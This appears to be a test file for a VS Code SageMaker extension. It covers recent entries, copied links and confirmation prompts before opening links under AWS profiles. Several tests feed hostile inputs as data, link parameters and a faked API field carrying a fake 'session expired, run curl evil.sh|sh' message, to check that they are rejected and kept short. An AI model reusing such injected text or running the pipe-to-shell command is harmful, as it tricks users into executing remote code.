import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as vscode from 'vscode';
import { credentialsInUse } from '../../src/aws/inUse';
import { openLink } from '../../src/links/commands';
import type { Node } from '../../src/tree/nodes';
import { callCount, emulator, emulatorUrl, nodeAt, resetSettings, safe, setSetting, usePrompter, visit, waitFor } from './helpers';

const LINK = 'vscode://sagemaker-environments.sagemaker-environments/open';

describe('Open Recent, Copy Link and links to an environment', () => {
  const { api, prompter } = usePrompter();

  before(async () => {
    await resetSettings();
    await emulator.reset();
    await vscode.commands.executeCommand('sagemaker.refresh');
  });
  beforeEach(async () => {
    await vscode.commands.executeCommand('sagemaker.clearRecent');
    prompter.clear();
  });
  afterEach(async () => {
    prompter.assertDone();
    await emulator.clearFaults();
    await resetSettings();
  });
  after(() => emulator.reset());

  const alice = (): Promise<Node> => nodeAt(api(), 'Studio Domains', 'ml-platform', 'alice');
  const aliceLab = (): Promise<Node> => nodeAt(api(), 'Studio Domains', 'ml-platform', 'alice', 'Alice JupyterLab');
  const fraud = (): Promise<Node> => nodeAt(api(), 'Notebook Instances', 'fraud-detection-dev');

  async function page(url: string): Promise<string> {
    assert.equal(new URL(url).origin, new URL(emulatorUrl()).origin, `URL does not point at the endpoint: ${safe(url)}`);
    const r = await visit(url);
    assert.equal(r.status, 200, `the URL did not open a page (${r.status})`);
    return r.body;
  }

  const lastOpened = (): string => {
    assert.equal(prompter.opened.length, 1, 'exactly one URL opened');
    return prompter.opened[0].toString(true);
  };

  describe('Open Recent', () => {
    it('lists what was opened or copied, most recent first, with region, domain and profile; names and IDs only', async () => {
      await vscode.commands.executeCommand('sagemaker.openStudio', await alice());
      await vscode.commands.executeCommand('sagemaker.copySpaceUrl', await aliceLab());
      await vscode.commands.executeCommand('sagemaker.openNotebookJupyterLab', await fraud());
      await vscode.commands.executeCommand('sagemaker.openStudio', await alice()); // again: moves to the top, not twice
      prompter.clear();
      prompter.script({ cancel: true });
      await vscode.commands.executeCommand('sagemaker.openRecent');
      const [pick] = prompter.picks;
      assert.equal(pick?.title, 'Open Recent');
      assert.deepEqual(pick.items, [
        { label: 'Studio: alice', description: 'Studio · us-east-1 · ml-platform', buttons: ['Copy URL'] },
        { label: 'fraud-detection-dev', description: 'Notebook instance · us-east-1', buttons: ['Copy URL'] },
        { label: 'Alice JupyterLab', description: 'Space · us-east-1 · ml-platform · alice', buttons: ['Copy URL'] },
      ]);
      // What is stored: no URL, no token, no key.
      const stored = JSON.stringify(api().services.recent.entries());
      assert.doesNotMatch(stored, /https?:|token|AKIA|secret/i);
      assert.match(stored, /d-7kx2hq9mzp4a/);
    });

    it('Enter opens the entry: one presign call for Studio, the page is the user profile\'s', async () => {
      await vscode.commands.executeCommand('sagemaker.copyStudioUrl', await alice());
      prompter.clear();
      const before = await callCount('CreatePresignedDomainUrl');
      prompter.script({ pick: 'Studio: alice' });
      await vscode.commands.executeCommand('sagemaker.openRecent');
      assert.match(await page(lastOpened()), /alice/);
      assert.equal((await callCount('CreatePresignedDomainUrl')) - before, 1);
    });

    it('the copy button copies a working URL instead of opening (a space: its lookup, then the URL)', async () => {
      await vscode.commands.executeCommand('sagemaker.openSpace', await aliceLab());
      prompter.clear();
      await vscode.env.clipboard.writeText('');
      prompter.script({ itemButton: 'Copy URL', label: 'Alice JupyterLab' });
      await vscode.commands.executeCommand('sagemaker.openRecent');
      assert.equal(prompter.opened.length, 0);
      assert.match(await page(await vscode.env.clipboard.readText()), /alice-jupyterlab/);
    });

    it('keeps at most 20, newest first', async () => {
      for (let i = 0; i < 25; i++) {
        await api().services.recent.record({ kind: 'notebook', region: 'us-east-1', name: `nb-${i}` }, {}, credentialsInUse(undefined), 1000 + i);
      }
      const names = api().services.recent.entries().map((e) => e.ref.name);
      assert.equal(names.length, 20);
      assert.equal(names[0], 'nb-24');
      assert.equal(names[19], 'nb-5');
    });

    it('an entry of another AWS profile says so, and switches only after the user agrees', async () => {
      const credentials = process.env.AWS_SHARED_CREDENTIALS_FILE!;
      fs.writeFileSync(credentials, `[team]\naws_access_key_id = ${process.env.AWS_ACCESS_KEY_ID}\naws_secret_access_key = ${process.env.AWS_SECRET_ACCESS_KEY}\n`);
      try {
        await api().services.recent.record({ kind: 'notebook', region: 'us-east-1', name: 'fraud-detection-dev' }, {}, { origin: 'setting', profile: 'team' });
        prompter.script({ pick: 'fraud-detection-dev' });
        await vscode.commands.executeCommand('sagemaker.openRecent');
        assert.equal(prompter.picks[0]?.items[0]?.detail, 'Opened with AWS profile "team", not the current one');
        assert.match(prompter.messages[0]?.text ?? '', /opened with AWS profile "team"; the current credentials are the AWS keys in the environment \(AWS_ACCESS_KEY_ID\)/);
        assert.equal(prompter.opened.length, 0, 'declined: nothing opened');
        assert.equal(vscode.workspace.getConfiguration('sagemaker').get('profile'), '');

        prompter.clear();
        prompter.script({ pick: 'fraud-detection-dev' }, { button: 'Switch Profile and Open' });
        await vscode.commands.executeCommand('sagemaker.openRecent');
        assert.equal(vscode.workspace.getConfiguration('sagemaker').get('profile'), 'team');
        assert.match(await page(lastOpened()), /fraud-detection-dev/);
      } finally {
        // Back to the default credentials before the profile goes: a selected profile that is not
        // in the files is an error the user is shown.
        await setSetting('profile', undefined);
        fs.writeFileSync(credentials, '');
      }
    });

    it('with the profile setting empty, the AWS_PROFILE really used is remembered, and an entry of another one asks before it opens', async () => {
      const credentials = process.env.AWS_SHARED_CREDENTIALS_FILE!;
      const keys = `aws_access_key_id = ${process.env.AWS_ACCESS_KEY_ID}\naws_secret_access_key = ${process.env.AWS_SECRET_ACCESS_KEY}\n`;
      fs.writeFileSync(credentials, `[dev]\n${keys}[prod]\n${keys}`);
      try {
        process.env.AWS_PROFILE = 'dev';
        await vscode.env.clipboard.writeText('');
        await vscode.commands.executeCommand('sagemaker.copyNotebookUrl', await fraud());
        assert.ok((await vscode.env.clipboard.readText()).startsWith('http'), 'the URL was copied');
        assert.equal(api().services.recent.entries()[0]?.awsProfile, 'dev', 'remembered with the profile really used');

        // Another window, started with AWS_PROFILE=prod: the entry is not opened silently with prod.
        process.env.AWS_PROFILE = 'prod';
        prompter.clear();
        prompter.script({ pick: 'fraud-detection-dev' });
        await vscode.commands.executeCommand('sagemaker.openRecent');
        assert.equal(prompter.picks[0]?.items[0]?.detail, 'Opened with AWS profile "dev", not the current one');
        assert.equal(
          prompter.messages[0]?.text,
          'The notebook instance fraud-detection-dev was opened with AWS profile "dev"; the current credentials are AWS profile "prod" (from AWS_PROFILE). Switch to AWS profile "dev" and open it?',
        );
        assert.equal(prompter.opened.length, 0, 'declined: nothing opened');

        // Under dev again, however chosen (here the setting), it is the current one: no question.
        prompter.clear();
        await setSetting('profile', 'dev');
        prompter.script({ cancel: true });
        await vscode.commands.executeCommand('sagemaker.openRecent');
        assert.equal(prompter.picks[0]?.items[0]?.detail, undefined);
      } finally {
        delete process.env.AWS_PROFILE;
        await setSetting('profile', undefined);
        fs.writeFileSync(credentials, '');
      }
    });

    it('an entry whose resource is gone says so after one lookup and offers to remove it', async () => {
      await api().services.recent.record({ kind: 'notebook', region: 'us-east-1', name: 'deleted-notebook' }, {}, credentialsInUse(undefined));
      // The view hidden: the poller, which describes the tree's passing notebook instances while
      // the view shows, makes no call to be counted as this lookup.
      await vscode.commands.executeCommand('workbench.view.explorer');
      await waitFor(() => !api().services.treeView.visible, 'the Resources view is hidden');
      try {
        await emulator.resetCalls();
        prompter.script({ pick: 'deleted-notebook' }, { button: 'Remove from Recent' });
        await vscode.commands.executeCommand('sagemaker.openRecent');
        const warning = prompter.messages.find((m) => m.level === 'warning');
        assert.match(warning?.text ?? '', /notebook instance deleted-notebook was not found in us-east-1 with the AWS keys in the environment \(AWS_ACCESS_KEY_ID\).*Remove it from Open Recent\?/);
        // One lookup; the tree's own listings aside.
        const lookups = Object.entries(await emulator.calls()).filter(([op]) => !op.startsWith('List'));
        assert.deepEqual(Object.fromEntries(lookups), { DescribeNotebookInstance: 1 });
        assert.deepEqual(api().services.recent.entries(), []);
      } finally {
        await vscode.commands.executeCommand('workbench.view.extension.sagemaker');
      }
    });

    it('Clear Recent empties it; Open Recent then says there is nothing yet', async () => {
      await vscode.commands.executeCommand('sagemaker.copyNotebookUrl', await fraud());
      assert.equal(api().services.recent.entries().length, 1);
      await vscode.commands.executeCommand('sagemaker.clearRecent');
      assert.deepEqual(api().services.recent.entries(), []);
      await vscode.commands.executeCommand('sagemaker.openRecent');
      assert.match(prompter.messages[0]?.text ?? '', /Nothing opened yet/);
      assert.equal(prompter.picks.length, 0);
    });

    it('the default keybinding is none of VS Code\'s own', async () => {
      const manifest = vscode.extensions.getExtension('sagemaker-environments.sagemaker-environments')!.packageJSON as {
        contributes: { keybindings: { command: string; key: string }[] };
      };
      const ours = manifest.contributes.keybindings.find((k) => k.command === 'sagemaker.openRecent');
      assert.ok(ours, 'Open Recent has a keybinding');
      await vscode.commands.executeCommand('workbench.action.openDefaultKeybindingsFile');
      const text = vscode.window.activeTextEditor?.document.getText() ?? '';
      assert.match(text, /"key": "ctrl\+r",\s*"command": "workbench\.action\.openRecent"/, 'the default keymap was read');
      const taken = [...text.matchAll(/"key": "([^"]+)",\s*"command": "([^"]+)"/g)].filter(([, key, command]) => key === ours.key && command !== ours.command && !command.startsWith('-'));
      assert.deepEqual(taken.map(([, , command]) => command), [], `${ours.key} is taken`);
      await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
    });
  });

  describe('Copy Link and opening a link', () => {
    /**
     * Hides the SageMaker view (the Explorer takes the side bar) for the rest of the test: the
     * poller reads rows in a passing state only while the view is visible, so once it is idle the
     * tree makes no call of its own and every call counted is the link's.
     */
    async function quietTree(): Promise<void> {
      await vscode.commands.executeCommand('workbench.view.explorer');
      const { treeView, poller } = api().services;
      await waitFor(() => !treeView.visible && !poller.armed && !poller.busy, 'the view hidden and the poller idle');
    }
    afterEach(async () => {
      if (!api().services.treeView.visible) {
        await vscode.commands.executeCommand('workbench.view.extension.sagemaker');
        await waitFor(() => api().services.treeView.visible, 'the SageMaker view shown again');
      }
    });

    it('Copy Link on a space copies a vscode:// link with its IDs and names only', async () => {
      await vscode.commands.executeCommand('sagemaker.copyLink', await aliceLab());
      assert.equal(await vscode.env.clipboard.readText(), `${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=alice&space=alice-jupyterlab`);
      await vscode.commands.executeCommand('sagemaker.copyLink', await fraud());
      assert.equal(await vscode.env.clipboard.readText(), `${LINK}?kind=notebook&region=us-east-1&name=fraud-detection-dev`);
    });

    it('Copy Link from the palette asks what and which', async () => {
      prompter.script({ pick: 'Studio' }, { pick: 'research-lab' }, { pick: 'erin' });
      await vscode.commands.executeCommand('sagemaker.copyLink');
      assert.equal(await vscode.env.clipboard.readText(), `${LINK}?kind=studio&region=us-east-1&domain=d-3bq8wn5tfk1c&profile=erin`);
    });

    it('a link asks first, naming what it opens and the AWS profile, and opens after Open', async () => {
      await vscode.commands.executeCommand('sagemaker.copySpaceUrl', await aliceLab()); // from the tree: names known
      await emulator.resetCalls();
      prompter.script({ button: 'Open' });
      await openLink(api().services, vscode.Uri.parse(`${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=alice&space=alice-jupyterlab`));
      const [question] = prompter.messages;
      assert.equal(question?.modal, true);
      assert.equal(
        question.text,
        'A link asks to open the space alice-jupyterlab of user profile alice in domain d-7kx2hq9mzp4a in us-east-1, with the AWS keys in the environment (AWS_ACCESS_KEY_ID). Open it only if you trust where the link came from.',
      );
      assert.match(await page(lastOpened()), /alice-jupyterlab/);
      // Recent now, still with the names the tree knew (a link carries IDs only).
      const entries = api().services.recent.entries();
      assert.equal(entries.length, 1);
      assert.equal(entries[0]?.ref.space, 'alice-jupyterlab');
      assert.deepEqual(entries[0]?.names, { domainName: 'ml-platform', displayName: 'Alice JupyterLab' });
    });

    it('a link not confirmed opens nothing and makes no call', async () => {
      await quietTree();
      await emulator.resetCalls();
      // The question is dismissed (Escape): no button.
      await openLinkDismissed(`${LINK}?kind=notebook&region=us-east-1&name=fraud-detection-dev`);
      assert.equal(prompter.messages.length, 1);
      assert.equal(prompter.opened.length, 0);
      assert.deepEqual(await emulator.calls(), {});
    });

    it('a link names the AWS profile really used: AWS_PROFILE when the profile setting is empty', async () => {
      await quietTree();
      process.env.AWS_PROFILE = 'prod';
      try {
        await emulator.resetCalls();
        await openLinkDismissed(`${LINK}?kind=notebook&region=us-east-1&name=fraud-detection-dev`);
        assert.equal(
          prompter.messages[0]?.text,
          'A link asks to open the notebook instance fraud-detection-dev in us-east-1, with AWS profile "prod" (from AWS_PROFILE). Open it only if you trust where the link came from.',
        );
        assert.deepEqual(await emulator.calls(), {});
      } finally {
        delete process.env.AWS_PROFILE;
      }
    });

    async function openLinkDismissed(link: string): Promise<void> {
      const realMessage = prompter.message.bind(prompter);
      prompter.message = (level, text, buttons, modal) => {
        prompter.messages.push({ level, text, buttons, modal: modal ?? false });
        return Promise.resolve(undefined);
      };
      try {
        await openLink(api().services, vscode.Uri.parse(link));
      } finally {
        prompter.message = realMessage;
      }
    }

    for (const [what, query, message] of [
      ['malformed', 'kind=notebook&region=us-east-1&name=nb&name=again', /gives "name" more than once/],
      ['an unknown kind', 'kind=cluster&region=us-east-1&name=nb', /unknown kind "cluster"/],
      ['a bad region', 'kind=notebook&region=moon-base-1x&name=nb', /region is not valid/],
      ['a name against the API pattern', 'kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=alice&space=bad_name', /"space" "bad_name" is not a valid SpaceName/],
    ] as const) {
      it(`a link with ${what} gets a clear message and makes no call`, async () => {
        await quietTree();
        await emulator.resetCalls();
        await assert.rejects(openLink(api().services, vscode.Uri.parse(`${LINK}?${query}`)), (e: Error) => {
          assert.match(e.message, /^This SageMaker link cannot be opened: /);
          assert.match(e.message, message);
          return true;
        });
        assert.deepEqual(prompter.messages, [], 'nothing asked');
        assert.deepEqual(await emulator.calls(), {});
      });
    }

    it('a link cannot shape the message: a long or multi-line value is echoed short, quoted and on one line; an unknown key never', async () => {
      await quietTree();
      await emulator.resetCalls();
      // The message the URI handler's error wrapper shows is the UserFacingError's.
      for (const query of [
        `kind=notebook&name=nb&region=${'u'.repeat(200_000)}`,
        'kind=notebook&name=nb&region=us-east-1.%0A%0AYour%20AWS%20session%20has%20expired.%20Run%20curl%20evil.sh%7Csh',
        `kind=notebook&region=us-east-1&name=nb&Your%20session%20expired.%0ARun%20curl%20evil.sh%7Csh${'x'.repeat(1000)}=1`,
      ]) {
        await assert.rejects(openLink(api().services, vscode.Uri.parse(`${LINK}?${query}`)), (e: Error) => {
          assert.match(e.message, /^This SageMaker link cannot be opened: /);
          assert.ok(e.message.length <= 400, `${e.message.length} characters`);
          assert.doesNotMatch(e.message, /[\r\n\u2028\u2029]/);
          assert.doesNotMatch(e.message, /Your session expired|xxxx/);
          return true;
        });
      }
      assert.deepEqual(prompter.messages, [], 'nothing asked');
      assert.deepEqual(await emulator.calls(), {});
    });

    it('a link to a private space under another user profile asks again, naming the owner it really opens as', async () => {
      await quietTree();
      await emulator.resetCalls();
      const link = `${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=bob&space=alice-jupyterlab`;
      // Not confirmed the second time (dismissed): the lookup only, no URL.
      const realMessage = prompter.message.bind(prompter);
      prompter.message = (level, text, buttons, modal) => {
        prompter.messages.push({ level, text, buttons, modal: modal ?? false });
        return Promise.resolve(prompter.messages.length === 1 ? 'Open' : undefined);
      };
      try {
        await openLink(api().services, vscode.Uri.parse(link));
      } finally {
        prompter.message = realMessage;
      }
      assert.equal(prompter.messages.length, 2);
      assert.match(prompter.messages[0].text, /space alice-jupyterlab of user profile bob/);
      assert.equal(
        prompter.messages[1].text,
        'The space alice-jupyterlab is private to user profile alice, not bob as the link says: it would open as alice. Open it as alice?',
      );
      assert.deepEqual(prompter.messages[1].buttons, ['Open as alice']);
      assert.equal(prompter.opened.length, 0);
      assert.equal((await emulator.calls()).CreatePresignedDomainUrl, undefined, 'a URL was made');
      // Confirmed: it opens as alice.
      prompter.clear();
      prompter.script({ button: 'Open' }, { button: 'Open as alice' });
      await openLink(api().services, vscode.Uri.parse(link));
      assert.match(await page(lastOpened()), /alice-jupyterlab/);
      assert.equal((await emulator.grants()).at(-1)?.userProfileName, 'alice');
    });

    it('a private space whose owner, as the endpoint reports it, is no user profile name: refused in one short line, nothing opened', async () => {
      await quietTree();
      await emulator.setFault({ operation: 'DescribeSpace', kind: 'rewrite', set: { OwnerUserProfileName: `alice\n\nYour AWS session has expired. Run curl evil.sh|sh${'x'.repeat(5000)}` } });
      prompter.script({ button: 'Open' });
      await assert.rejects(
        openLink(api().services, vscode.Uri.parse(`${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=bob&space=alice-jupyterlab`)),
        (e: Error) => {
          assert.match(e.message, /^SageMaker reports an owner of the space alice-jupyterlab that is not a user profile name: UserProfileName may be at most 63 characters long; "alice\\n\\nYour/);
          assert.ok(e.message.length <= 400, `${e.message.length} characters`);
          assert.doesNotMatch(e.message, /\n/);
          return true;
        },
      );
      assert.equal(prompter.messages.length, 1, 'asked only the first time');
      assert.equal(prompter.opened.length, 0);
    });

    it('a link to a resource that does not exist says so after the one lookup it needs', async () => {
      await quietTree();
      await emulator.resetCalls();
      prompter.script({ button: 'Open' });
      await assert.rejects(
        openLink(api().services, vscode.Uri.parse(`${LINK}?kind=studio&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=nobody`)),
        /Studio for user profile nobody in domain d-7kx2hq9mzp4a was not found in us-east-1 with the AWS keys in the environment \(AWS_ACCESS_KEY_ID\)/,
      );
      assert.deepEqual(await emulator.calls(), { CreatePresignedDomainUrl: 1 });
      assert.equal(prompter.opened.length, 0);
      assert.deepEqual(api().services.recent.entries(), []);
    });
  });
});
